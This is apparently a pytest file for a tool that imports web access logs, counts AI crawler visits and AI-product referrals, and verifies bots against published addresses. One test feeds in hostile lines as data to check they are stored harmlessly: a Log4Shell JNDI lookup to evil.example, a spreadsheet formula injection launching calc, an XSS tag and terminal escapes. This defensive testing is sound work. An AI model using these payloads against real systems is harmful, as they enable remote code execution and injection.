"""Access logs on the command line: formats told apart, lines counted once, hostile lines harmless, on both databases."""

import gzip
import json
from collections.abc import AsyncGenerator, Callable, Sequence
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any, Protocol

import pytest

from measurement.imports.access_logs.line_formats import LoggedRequest
from measurement.imports.access_logs.visit_kinds import (
    CrawlerVisit,
    KnownBot,
    Referral,
    known_bots,
    visit_kind,
)
from server.retention import CrawlerVisitSweep, Sweeper
from storage.database import Database
from storage.repositories.brands import BrandDraft
from storage.repositories.crawler_visits import LineKey, VisitKey
from tests.in_full import both_in_full
from tests.measurement.conftest import Acme

GPTBOT = (
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.0; +https://openai.com/gptbot)"
)
BROWSER = (
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36"
)
THEIRS, FOREIGN = "203.0.113.9", "198.51.100.7"
PROFILE: dict[str, Any] = {
    **dict.fromkeys(("industry", "website", "voice", "target_audience")),
    "keywords": [],
}
NOW = datetime.now(UTC) - timedelta(hours=2)
CLF = NOW.strftime("%d/%b/%Y:%H:%M:%S +0000")


def combined(
    path: str = "/",
    agent: str = GPTBOT,
    *,
    status: int = 200,
    referrer: str = "-",
    address: str = THEIRS,
    time: str = CLF,
) -> str:
    """A line of the combined format."""
    return f'{address} - - [{time}] "GET {path} HTTP/1.1" {status} 512 "{referrer}" "{agent}"'


@asynccontextmanager
async def closing_database(url: str) -> AsyncGenerator[Database]:
    database = await Database.open(url)
    try:
        yield database
    finally:
        await database.close()


class ImportLog(Protocol):
    """Imports lines as a file and returns what became of them."""

    def __call__(self, lines: Sequence[str | bytes], *arguments: str, name: str = "access.log") -> Any: ...


@pytest.fixture
def logged(acme: Acme, tmp_path: Path) -> ImportLog:
    def log(lines: Sequence[str | bytes], *arguments: str, name: str = "access.log") -> Any:
        path = tmp_path / name
        path.write_bytes(
            b"".join(part if isinstance(part, bytes) else part.encode() + b"\n" for part in lines)
        )
        return acme.seenby.json("logs", "import", str(path), "--brand", "Acme", *arguments)

    return log


@pytest.fixture
def published(acme: Acme, tmp_path: Path) -> None:
    """OpenAI's addresses for GPTBot, given as a file."""
    path = tmp_path / "gptbot.json"
    path.write_text(
        json.dumps({"prefixes": [{"ipv4Prefix": "203.0.113.0/28"}, {"ipv6Prefix": "2001:db8::/48"}]})
    )
    acme.seenby.json("logs", "addresses", "--file", str(path), "--bot", "GPTBot")


def shown(acme: Acme, *arguments: str) -> Any:
    return acme.seenby.json("logs", "show", "--brand", "Acme", *arguments)


@both_in_full
def test_a_line_counts_once_however_often_and_in_which_file_it_comes(
    acme: Acme, logged: ImportLog, tmp_path: Path, rows: Callable[[str], int]
) -> None:
    lines = [combined(f"/page-{number}") for number in range(30)] + [combined("/twice")] * 2
    first = logged(lines[:20])
    assert (first["lines"], first["visits"], first["duplicates"]) == (20, 20, 0)
    grown = logged(lines)
    assert (grown["visits"], grown["duplicates"]) == (12, 20)
    packed = tmp_path / "access.log.1.gz"
    packed.write_bytes(gzip.compress("".join(f"{line}\n" for line in reversed(lines)).encode()))
    again = acme.seenby.json("logs", "import", str(packed), "--brand", "Acme")
    assert (again["visits"], again["duplicates"]) == (0, 32)
    report = shown(acme)
    assert report["visits"] == 32
    assert {page["path"]: page["visits"] for page in report["pages"]}["/twice"] == 2
    assert rows("counted_log_lines") == 32


@both_in_full
def test_bots_are_verified_by_published_addresses(acme: Acme, logged: ImportLog, published: None) -> None:
    claude = "Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)"
    counts = logged(
        [
            combined("/real"),
            combined("/sixth", address="2001:db8::7"),
            combined("/wp-login.php", address=FOREIGN, status=404),
            combined("/behind-a-proxy", address="10.0.0.1"),
            combined("/no-list", claude, address=FOREIGN, status=503),
            combined("/person", BROWSER),
        ]
    )
    assert (counts["visits"], counts["notThisBot"], counts["other"]) == (5, 1, 1)
    report = shown(acme)
    bots = {bot["bot"]: bot for bot in report["bots"]}
    gptbot = bots["GPTBot"]
    assert (gptbot["visits"], gptbot["verified"], gptbot["notVerified"], gptbot["notThisBot"]) == (3, 2, 1, 1)
    assert (gptbot["operator"], gptbot["purpose"]) == ("OpenAI", "training")
    assert (bots["ClaudeBot"]["verified"], bots["ClaudeBot"]["notVerified"]) == (0, 1)
    assert report["statuses"] == {"2": 3, "5": 1}
    assert "/wp-login.php" not in [page["path"] for page in report["pages"]]


def test_an_address_outside_of_an_old_list_is_not_called_an_impostor(
    acme: Acme, logged: ImportLog, published: None
) -> None:
    long_ago = (NOW - timedelta(days=60)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    logged([combined("/then", address=FOREIGN, time=long_ago), combined("/then", time=long_ago)])
    [bot] = shown(acme, "--days", "90")["bots"]
    assert (bot["verified"], bot["notVerified"], bot["notThisBot"]) == (1, 1, 0)


def test_people_from_ai_products_are_counted_by_landing_page(acme: Acme, logged: ImportLog) -> None:
    logged(
        [
            combined("/shoes?utm_source=chatgpt.com&session=secret", BROWSER),
            combined("/shoes", BROWSER, referrer="https://chatgpt.com/c/123"),
            combined("/prices", BROWSER, referrer="https://www.perplexity.ai/search?q=shoes"),
            combined("/old", BROWSER, referrer="https://gemini.google.com/", status=404),
            combined("/news", BROWSER, referrer="https://chatgpt.com.evil.example/"),
        ]
    )
    report = shown(acme)
    assert [(one["product"], one["visits"]) for one in report["referrals"]] == [
        ("ChatGPT", 2),
        ("Perplexity", 1),
    ]
    assert (report["landings"][0]["path"], report["landings"][0]["visits"]) == ("/shoes", 2)
    assert "secret" not in json.dumps(report)
    assert report["bots"] == []


CHROME = "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0"
NEXUS = f"Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) {CHROME} Mobile Safari/537.36"


def kind_of_request(target: str = "/x", agent: str = BROWSER, referrer: str = "") -> Any:
    return visit_kind(LoggedRequest(NOW, None, "GET", target, 200, agent, referrer, THEIRS))


@pytest.mark.parametrize(
    ("request_of", "product"),
    [
        ({"referrer": "android-app://com.openai.chatgpt/"}, "ChatGPT"),
        ({"referrer": "https://labs.openai.com/"}, "ChatGPT"),
        ({"target": "/x?utm_source=openai.com&a=1"}, "ChatGPT"),
        ({"agent": f"{BROWSER} ChatGPT/1.2026.300 (iOS 19.1; iPhone17,1)"}, "ChatGPT"),
        ({"referrer": "android-app://ai.perplexity.app.android"}, "Perplexity"),
        ({"agent": "Perplexity/2.51 CFNetwork/1568 Darwin/24.0.0"}, "Perplexity"),
        ({"referrer": "https://www.bing.com/chat?q=shoes"}, "Copilot"),
        ({"referrer": "https://www.bing.com/copilotsearch?q=shoes"}, "Copilot"),
        ({"referrer": "https://edgeservices.bing.com/edgesvc/chat"}, "Copilot"),
        ({"referrer": "https://m365.cloud.microsoft/"}, "Copilot"),
        ({"referrer": "https://notebooklm.google.com/"}, "NotebookLM"),
        ({"referrer": "https://poe.com/"}, "Poe"),
        ({"referrer": "https://www.kimi.com/"}, "Kimi"),
        ({"referrer": "https://www.doubao.com/chat/"}, "Doubao"),
        ({"referrer": "https://www.qwant.com/"}, "Qwant"),
        ({"referrer": "https://www.bing.com/search?q=chat"}, None),
        ({"referrer": "https://www.bing.com/chatter"}, None),
        ({"referrer": "https://openai.com/index/"}, None),
        ({"referrer": "https://openai/"}, None),
        ({"referrer": "https://x.com/someone"}, None),
        ({"agent": f"{BROWSER} MyChatGPT/1.0"}, None),
    ],
)
def test_a_person_comes_from_the_product_of_referrer_source_or_app(
    request_of: dict[str, str], product: str | None
) -> None:
    assert kind_of_request(**request_of) == (Referral(product, "/x") if product else None)


@pytest.mark.parametrize(
    ("agent", "bot", "operator", "purpose"),
    [
        ("Claude-Web/1.0 (web crawler; +https://www.anthropic.com/; bots@anthropic.com)", "Claude-Web", "Anthropic", "user_request"),
        ("anthropic-ai", "anthropic-ai", "Anthropic", "training"),
        (f"Mozilla/5.0 {CHROME}; compatible; ChatGPT Agent/1.0", "ChatGPT Agent", "OpenAI", "user_request"),
        ("Mozilla/5.0; compatible; OAI-AdsBot/1.0; +https://openai.com/adsbot", "OAI-AdsBot", "OpenAI", "ads"),
        ("Mozilla/5.0 (compatible; Google-NotebookLM; +https://notebooklm.google.com/)", "Google-NotebookLM", "Google", "user_request"),
        ("Mozilla/5.0 (compatible; Amzn-SearchBot/0.1) Chrome/119.0", "Amzn-SearchBot", "Amazon", "search"),
        (f"{NEXUS} (compatible; Google-CloudVertexBot; +https://cloud.google.com/)", "Google-CloudVertexBot", "Google", "training"),
        (f"{NEXUS} (compatible; GoogleOther)", "GoogleOther", "Google", "training"),
        (f"{NEXUS} (compatible; Google-Agent; +https://developers.google.com/)", "Google-Agent", "Google", "user_request"),
        (f"{NEXUS} (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", "Google", "search"),
        (GPTBOT, "GPTBot", "OpenAI", "training"),
        (BROWSER, None, "", ""),
        (NEXUS, None, "", ""),
        ("Mozilla/5.0 (compatible; Example-ExaBotany/1.0)", None, "", ""),
    ],
)  # fmt: skip
def test_bots_of_ai_operators_have_name_operator_and_purpose(
    agent: str, bot: str | None, operator: str, purpose: str
) -> None:
    assert kind_of_request(agent=agent) == (CrawlerVisit(bot, "/x") if bot else None)
    if bot:
        assert known_bots()[bot] == KnownBot(bot, operator, purpose)


def test_the_report_shows_operator_and_purpose_of_listed_bots(acme: Acme, logged: ImportLog) -> None:
    logged([combined("/", "Mozilla/5.0 (compatible; Amzn-SearchBot/0.1)")])
    [bot] = shown(acme)["bots"]
    assert (bot["bot"], bot["operator"], bot["purpose"], bot["visits"]) == (
        "Amzn-SearchBot",
        "Amazon",
        "search",
        1,
    )


ISO = NOW.isoformat(timespec="seconds").replace("+00:00", "Z")
NGINX = {
    "time_iso8601": ISO,
    "remote_addr": THEIRS,
    "host": "www.acme.example",
    "request": "GET /page?x=1 HTTP/2.0",
    "status": "200",
    "http_user_agent": GPTBOT,
    "http_referer": "",
}
CLOUDFLARE = {
    "ClientIP": THEIRS,
    "ClientRequestHost": "shop.acme.example:443",
    "ClientRequestMethod": "GET",
    "ClientRequestURI": "/page?x=1",
    "ClientRequestUserAgent": GPTBOT,
    "EdgeResponseStatus": 200,
    "EdgeStartTimestamp": int(NOW.timestamp() * 1_000_000_000),
}
CLOUDFRONT = "\t".join(
    [
        *(NOW.strftime("%Y-%m-%d"), NOW.strftime("%H:%M:%S"), "FRA2", "512", THEIRS, "GET"),
        *("d111.cloudfront.net", "/page", "200", "-", GPTBOT.replace(" ", "%2520"), "x=1", "acme.example"),
    ]
)
FIELDS = (
    "#Fields: date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) "
    "cs(User-Agent) cs-uri-query x-host-header"
)


@pytest.mark.parametrize(
    ("log_format", "lines"),
    [
        ("combined", [combined("/page?x=1")]),
        ("combined", [f"www.acme.example:443 {combined('/page')}"]),
        ("nginx-json", [json.dumps(NGINX)]),
        ("cloudflare", [json.dumps(CLOUDFLARE)]),
        ("cloudflare", [json.dumps({**CLOUDFLARE, "EdgeStartTimestamp": ISO})]),
        ("cloudfront", ["#Version: 1.0", FIELDS, CLOUDFRONT]),
    ],
)
@pytest.mark.parametrize("named", [False, True])
def test_each_format_is_read_named_or_not(
    acme: Acme, logged: ImportLog, log_format: str, lines: list[str], named: bool, published: None
) -> None:
    counts = logged(lines, *(("--format", log_format) if named else ()))
    assert (counts["visits"], counts["unreadable"]) == (1, 0)
    report = shown(acme)
    [page] = report["pages"]
    assert (page["site"], page["path"], report["verified"]) == ("acme.example", "/page", 1)
    assert [day["day"] for day in report["days"]] == [NOW.date().isoformat()]


def test_the_common_format_is_read_and_said_to_name_no_crawler(
    acme: Acme, logged: ImportLog, tmp_path: Path
) -> None:
    path = tmp_path / "common.log"
    path.write_text(f'{THEIRS} - - [{CLF}] "GET / HTTP/1.1" 200 512\n' * 5)
    done = acme.seenby("logs", "import", str(path), "--brand", "Acme")
    assert "5 lines: 0 visits" in done.out
    assert "no user agent" in done.err


def test_hostile_lines_are_counted_as_what_they_are_and_shown_encoded(acme: Acme, logged: ImportLog) -> None:
    hostile = [
        b"x" * 1_000_000 + b"\n",
        b"\x00\xff\xfe\x1b[31m\n",
        b"[" * 30_000 + b"\n",
        b'{"time":' + b"[" * 20_000 + b"\n",
        b'{"time_iso8601": "0000-99-99T00:00:00Z", "status": 200}\n',
        b'{"msec": 1e400, "status": 200, "http_user_agent": "GPTBot"}\n',
        b'"' * 20_000 + b"\n",
        combined(time="99/Nov/2026:00:00:00 +0000"),
        combined(time="01/Jan/0001:00:00:00 +1400"),
        combined(status=999),
    ]
    shown_ones = [
        combined("/\x1b[2J\u202e\u2066=cmd|'/c calc'!A1", GPTBOT),
        combined("/${jndi:ldap://evil.example/a}", GPTBOT + "${jndi:ldap://evil.example/a}"),
        combined("/<script>alert(1)</script>"),
        b"203.0.113.9 - - [" + CLF.encode() + b'] "GET /caf\xe9 HTTP/1.1" 200 1 "-" "GPTBot/1.0"\n',
        combined("/" + "a" * 5000),
        combined("http://acme.example/absolute?x"),
    ]
    counts = logged([*hostile, *shown_ones])
    assert (counts["lines"], counts["unreadable"], counts["visits"]) == (16, 10, 6)
    paths = [page["path"] for page in shown(acme)["pages"]]
    assert "/absolute" in paths
    assert all(path.isascii() and path.isprintable() and path.startswith("/") for path in paths)
    assert max(map(len, paths)) == 200
    assert not [path for path in paths if set(path) & set("<>'\"${}|\\")]


def test_lines_of_other_sites_and_other_times_are_not_counted(acme: Acme, logged: ImportLog) -> None:
    old = (NOW - timedelta(days=120)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    ahead = (NOW + timedelta(days=5)).strftime("%d/%b/%Y:%H:%M:%S +0000")
    counts = logged(
        [
            json.dumps({**NGINX, "host": "globex.example"}),
            json.dumps({**NGINX, "host": "notacme.example"}),
            combined(time=old),
            combined(time=ahead),
        ]
    )
    assert (counts["otherSites"], counts["outOfRange"], counts["visits"]) == (2, 2, 0)


def test_a_day_has_a_bounded_number_of_paths_for_each_bot(
    acme: Acme, logged: ImportLog, rows: Callable[[str], int]
) -> None:
    counts = logged([combined(f"/random/{number}") for number in range(800)])
    assert counts["visits"] == 800
    assert rows("crawler_visits") == 301
    assert shown(acme)["pages"][0] == {
        "site": "acme.example",
        "path": "(other)",
        "visits": 500,
        "bots": 1,
        "failed": 0,
    }


def test_a_damaged_gzip_keeps_what_came_before_and_is_taken_up_again(acme: Acme, tmp_path: Path) -> None:
    whole = gzip.compress("".join(f"{combined(f'/{number}')}\n" for number in range(200)).encode())
    path = tmp_path / "access.log.gz"
    path.write_bytes(whole[: len(whole) // 2])
    broken = acme.seenby("logs", "import", str(path), "--brand", "Acme")
    assert broken.code == 1
    assert "damaged or ends early" in broken.err
    path.write_bytes(whole)
    acme.seenby.json("logs", "import", str(path), "--brand", "Acme")
    assert shown(acme)["visits"] == 200


@pytest.mark.parametrize(
    ("arguments", "words"),
    [
        (("import", "missing.log", "--brand", "Acme"), "missing.log: the file cannot be read"),
        (("import", "-", "--brand", "Nobody"), "there is no brand 'Nobody'"),
        (("import", "-", "--brand", "Acme", "--format", "morse"), "there is no format of logs 'morse'"),
        (("import", "-", "--brand", "Acme", "--site", "globex.example"), "there is no site of this brand"),
        (("addresses", "--bot", "GPTBot"), "Give --file, --fetch or --url with --bot."),
        (("addresses", "--url", "https://lists.example/a.json"), "Give --bot with --file or --url."),
        (("addresses", "--fetch", "--bot", "Robot"), "there is no bot with published addresses 'Robot'"),
        (("addresses", "--url", "https://127.0.0.1:9/", "--bot", "GPTBot"), "No list could be fetched"),
    ],
)
def test_what_cannot_be_done_is_refused_in_words(acme: Acme, arguments: tuple[str, ...], words: str) -> None:
    refused = acme.seenby("logs", *arguments)
    assert refused.code == 1
    assert words in refused.err


@pytest.mark.parametrize("prefixes", ["[]", '["0.0.0.0/0"]', '["nonsense"]', "3", '[{"ipv4Prefix": 7}]'])
def test_a_list_that_would_verify_everybody_or_nobody_is_refused(
    acme: Acme, tmp_path: Path, prefixes: str
) -> None:
    path = tmp_path / "list.json"
    path.write_text(f'{{"prefixes": {prefixes}}}')
    assert acme.seenby("logs", "addresses", "--file", str(path), "--bot", "GPTBot").code == 1
    assert [one["networks"] for one in acme.seenby.json("logs", "addresses") if one["networks"]] == []


@both_in_full
def test_counts_stay_in_their_company_and_go_with_its_archive(
    acme: Acme, logged: ImportLog, tmp_path: Path, rows: Callable[[str], int]
) -> None:
    logged([combined("/ours"), combined("/prices", BROWSER, referrer="https://claude.ai/")])
    before = shown(acme, "--company", "Shop")
    archive = tmp_path / "everything.jsonl"
    archive.write_text(acme.seenby("export", "everything", "--company", "Shop").out)
    assert THEIRS not in archive.read_text()
    acme.seenby.json("company", "create", "Other", "--email", "other@shop.example")
    theirs = tmp_path / "theirs.json"
    theirs.write_text(json.dumps({"name": "Acme", "website": "https://acme.example/"}))
    acme.seenby.json("brand", "import", str(theirs), "--company", "Other")
    assert shown(acme, "--company", "Other")["visits"] == 0
    taken = acme.seenby(
        "logs", "import", str(tmp_path / "access.log"), "--brand", "Acme", "--company", "Other"
    )
    assert "1 visits of AI crawlers and 1 referrals counted, 0 counted before" in taken.out
    assert rows("crawler_visits") == 2
    assert shown(acme, "--company", "Shop") == before


def test_counts_of_an_archive_are_taken_in(acme: Acme, logged: ImportLog, tmp_path: Path) -> None:
    logged([combined("/ours"), combined("/prices", BROWSER, referrer="https://claude.ai/")])
    before = shown(acme)
    archive = tmp_path / "everything.jsonl"
    archive.write_text(acme.seenby("export", "everything").out)
    acme.seenby.environment["SEENBY_DATABASE_URL"] = f"sqlite+aiosqlite:///{tmp_path}/new.db"
    acme.seenby.json("company", "create", "Elsewhere", "--email", "else@shop.example")
    acme.seenby.json("import", str(archive))
    assert shown(acme) == before


@both_in_full
async def test_old_counts_and_digests_go_and_newer_ones_stay(url: str) -> None:
    async with closing_database(url) as database:
        today = NOW.date()
        async with database.operation() as operators:
            company = await operators.companies.create("Shop", "owner@shop.example", "growth", NOW)
        async with database.transaction(company.id) as workspace:
            brand = await workspace.brands.save(BrandDraft("Acme"), (), PROFILE, NOW)
            days = [today - timedelta(days=days) for days in (1, 99, 150, 500)]
            await workspace.crawler_visits.new_lines(brand.key, [LineKey(day, 7) for day in days])
            visits = {VisitKey(day, "acme.example", "GPTBot", "/", 2, "verified"): 3 for day in days}
            await workspace.crawler_visits.add(brand.key, visits, {})
        assert await Sweeper([CrawlerVisitSweep(database)], lambda: NOW).sweep() == 3
        kept = await database.workspace(company.id).crawler_visits.days(brand.key, days[-1], today)
        assert [row.day for row in kept] == [days[2], days[1], days[0]]
        async with database.transaction(company.id) as workspace:
            new = await workspace.crawler_visits.new_lines(
                brand.key, [LineKey(days[1], 7), LineKey(days[2], 7)]
            )
        assert new == {LineKey(days[2], 7)}
